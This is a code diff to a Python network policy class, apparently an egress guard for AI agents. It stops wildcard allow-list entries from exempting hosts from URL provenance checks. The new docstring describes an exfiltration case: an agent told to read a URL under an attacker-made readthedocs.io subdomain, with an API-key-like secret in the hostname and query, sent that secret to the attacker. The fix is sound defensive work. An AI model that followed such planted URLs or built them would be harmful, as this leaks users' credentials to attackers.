@@ -210,6 +210,9 @@ class Policy:
                 )
         self.settings = settings
         self.allow = tuple(HostPattern.parse(p, f"policy.allow{where}") for p in settings.allow)
+        # The hosts that need no URL provenance: those [policy] allow names exactly (see
+        # on_allow_list).
+        self._named = tuple(p for p in self.allow if not p.wildcard)
         self.deny = tuple(HostPattern.parse(p, f"policy.deny{where}") for p in settings.deny)
         self.report = settings.mode == "report"
         # A policy never changes once built: its decisions for a (host, tier, agent) are
@@ -276,8 +279,12 @@ class Policy:
         return _ALLOW
 
     def on_allow_list(self, host: str) -> bool:
-        """Whether ``host`` matches ``[policy] allow`` (such hosts need no URL provenance)."""
-        return _first_match(self.allow, normalise_host(host)) is not None
+        """Whether ``[policy] allow`` names ``host`` exactly (such hosts need no URL
+        provenance). A wildcard is not enough: under ``*.readthedocs.io`` (the docs' own
+        example) anyone can make a host, so an agent told to read
+        ``https://sk-live-4f9a.attacker.readthedocs.io/?q=sk-live-4f9a`` sent the secret to a
+        host its attacker made, in the name looked up and in the request, with provenance on."""
+        return _first_match(self._named, normalise_host(host)) is not None
 
     def robots_enabled(self, tier: str) -> bool:
         """Whether robots.txt is consulted for reads in ``tier``."""
